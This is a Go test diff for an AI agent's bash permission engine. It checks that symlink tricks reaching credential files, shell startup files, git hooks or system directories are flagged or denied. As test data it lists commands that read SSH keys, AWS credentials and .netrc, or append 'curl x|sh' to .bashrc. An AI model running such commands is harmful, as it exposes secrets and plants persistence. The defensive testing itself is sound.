@@ -158,3 +158,61 @@ func TestWritersInsideWorkingDirectories(t *testing.T) {
 		}
 	}
 }
+
+// Links made and used in one call are resolved (issue 10, "links made and
+// used in one call"): a link to a dangerous or credential path is a safety
+// ASK, a link out of the working directories is never allowed by
+// ACCEPT_EDITS, whatever allow rules the programs have.
+func TestLinksMadeAndUsedInOneCall(t *testing.T) {
+	eng := bashEngine(t, "Bash(ln:*)", "Bash(cp:*)", "Bash(mv:*)", "Bash(echo:*)", "Bash(cat:*)", "Bash(tee:*)",
+		"Bash(link:*)", "Bash(touch:*)")
+	for _, cmd := range []string{
+		"ln -s ~/.ssh/id_rsa k; cat k",
+		"ln -s ~/.ssh k && cat k/id_ed25519",
+		"ln -s ~/.bashrc b && echo 'curl x|sh' >> b",
+		"ln -sf ~/.zshrc z; tee -a z < payload",
+		"ln -s ../../.bashrc x",
+		"cd /w && ln -s /home/u/.aws a && cat a/credentials",
+		"ln -s /home/u h; cat h/.ssh/id_rsa",
+		"ln -s / r && cat r/home/u/.netrc",
+		"cp -s /home/u/.ssh/id_rsa k && cat k",
+		"link ~/.profile p && echo x >> p",
+		"mv ~/.ssh s; cat s/id_rsa",
+		"ln -s /home/u/.ssh a; mv a b; cat b/id_rsa",
+		"for f in 1 2; do cat k; ln -sf ~/.ssh/id_rsa k; done",
+		"cat k | ln -s ~/.ssh/id_rsa k",
+		"ln -s .git/hooks h && touch h/pre-commit",
+	} {
+		wantSafetyAsk(t, eng, cmd, "", false)
+	}
+	// Out of the working directories: never allowed by ACCEPT_EDITS, nor
+	// by the programs' allow rules (the link's target is a write outside).
+	for _, cmd := range []string{
+		"ln -s /etc nl && echo x > nl/f",
+		"ln -s /etc nl",
+		"ln -s /usr/local/bin b; touch b/tool",
+		"ln -sT /tmp t && echo x > t/drop",
+		"cp -r /tmp/evil d && echo x > d/l/f",
+		"ln -s /opt o; cd o && touch x",
+	} {
+		for _, mode := range []string{"acceptEdits", "dontAsk"} {
+			d := decideBash(eng, cmd, mode)
+			if d.Behavior == engine.Allow && d.Step == engine.StepToolCheck {
+				t.Errorf("%s: %q allowed by the tool check: %s", mode, cmd, d.Message)
+			}
+		}
+		if d := decideBash(bashEngine(t), cmd, "acceptEdits"); d.Behavior != engine.Ask {
+			t.Errorf("acceptEdits, no rules: %q: %s/%s (%s), want ASK", cmd, d.Behavior, d.Step, d.Message)
+		}
+	}
+	// Links that stay inside are edits like any other.
+	for _, cmd := range []string{
+		"ln -sfn build/v2 current",
+		"ln -s ../w/shared/config.json config.json && cat config.json",
+		"mkdir -p out && ln -s ../src out/src && touch out/src/x",
+	} {
+		if d := decideBash(bashEngine(t), cmd, "acceptEdits"); d.Behavior != engine.Allow {
+			t.Errorf("acceptEdits: %q: %s/%s (%s), want ALLOW", cmd, d.Behavior, d.Step, d.Message)
+		}
+	}
+}
